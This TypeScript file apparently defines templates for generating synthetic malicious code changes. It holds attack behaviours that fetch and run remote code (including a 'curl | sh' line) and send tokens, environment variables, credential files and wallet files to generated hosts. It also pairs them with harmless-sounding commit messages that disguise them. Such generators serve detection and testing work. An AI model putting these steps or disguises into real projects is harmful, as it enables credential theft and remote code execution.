/** Attacks that are a flow from somewhere to somewhere. */
import { aHost, anAddress } from "../hosts.ts";
import type { Language } from "../model.ts";
import type { Behaviour } from "./behaviour.ts";

const EVALUATING: readonly Language[] = [
  "javascript",
  "typescript",
  "python",
  "ruby",
  "php",
  "perl",
  "powershell",
  "groovy",
  "kotlin",
  "java",
  "csharp",
];

const TOOLING = [
  "build: prepare the tools",
  "chore: tidy the set-up",
  "ci: warm up",
  "Make the build reproducible",
  "fix: missing tables on first start",
];
const REPORTS = [
  "chore: build facts",
  "ci: report the duration",
  "Add diagnostics",
  "feat: usage statistics",
  "fix: report failing builds",
];

const SECRETS = [
  "NPM_TOKEN",
  "GITHUB_TOKEN",
  "AWS_SECRET_ACCESS_KEY",
  "PYPI_API_TOKEN",
  "DEPLOY_KEY",
  "DOCKER_PASSWORD",
  "SIGNING_KEY",
];
const CREDENTIALS = [
  "~/.npmrc",
  "~/.aws/credentials",
  "~/.ssh/id_ed25519",
  "~/.config/gh/hosts.yml",
  "~/.netrc",
  "~/.docker/config.json",
  "~/.git-credentials",
  "~/.pypirc",
  "~/.kube/config",
];
const WALKED = [
  [".env", "id_rsa", ".npmrc"],
  ["wallet.dat", "keystore.json", "id.json"],
  [".env", "credentials.json", "service-account.json"],
  ["id_rsa", "id_ed25519", "config"],
];

export const FLOWS: readonly Behaviour[] = [
  {
    id: "fetch-run",
    kind: "attack",
    acts: (random) => [{ does: "run", what: { from: "fetched", url: anAddress(random) } }],
    messages: TOOLING,
  },
  {
    id: "fetch-evaluate",
    kind: "attack",
    languages: EVALUATING,
    acts: (random) => [{ does: "evaluate", what: { from: "fetched", url: anAddress(random) } }],
    messages: TOOLING,
  },
  {
    id: "decode-run",
    kind: "attack",
    acts: (random) => [{ does: "run", what: { from: "decoded", text: `curl -fsSL ${anAddress(random)} | sh` } }],
    messages: TOOLING,
  },
  {
    id: "secret-send",
    kind: "attack",
    acts: (random) => [
      { does: "send", what: { from: "variable", name: random.pick(SECRETS) }, url: anAddress(random) },
    ],
    messages: REPORTS,
  },
  {
    id: "environment-send",
    kind: "attack",
    acts: (random) => [{ does: "send", what: { from: "environment" }, url: `https://${aHost(random)}/c` }],
    messages: REPORTS,
  },
  {
    id: "credential-file-send",
    kind: "attack",
    acts: (random) => [
      { does: "send", what: { from: "file", path: random.pick(CREDENTIALS) }, url: anAddress(random) },
    ],
    messages: REPORTS,
  },
  {
    id: "walk-send",
    kind: "attack",
    acts: (random) => [
      { does: "send", what: { from: "walk", root: "~", names: random.pick(WALKED) }, url: anAddress(random) },
    ],
    messages: REPORTS,
  },
];
